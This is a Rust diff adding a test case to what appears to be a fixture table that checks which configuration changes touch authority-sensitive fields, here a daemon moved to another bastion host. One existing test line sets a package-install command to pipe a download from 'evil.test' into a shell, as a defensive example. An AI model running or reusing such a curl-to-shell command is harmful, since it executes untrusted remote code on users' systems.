@@ -58,6 +58,13 @@ authority! {
     the_daemon_follows_another_remote: |s| {
         if let Some(d) = outside(s).daemon.as_mut() { d.repository.url = "https://elsewhere.test/x.git".into() }
     } => ["environments.outside.daemon.repository.url"];
+    the_daemon_moves_to_another_bastion: |s| {
+        let hosts = &mut outside(s).sections.hosts;
+        let first = hosts.iter().position(|h| h.role == crate::model::Role::Bastion).expect("a bastion");
+        let mut other = hosts[first].clone();
+        other.name = "outside-bastion-2".into();
+        hosts.insert(first, other);
+    } => ["environments.outside.daemon"];
     a_package_command: |s| {
         if let Some(ssh) = outside(s).ssh.as_mut() { ssh.package_install = "curl evil.test | sh {package}".into() }
     } => ["environments.outside.ssh.package_install"];
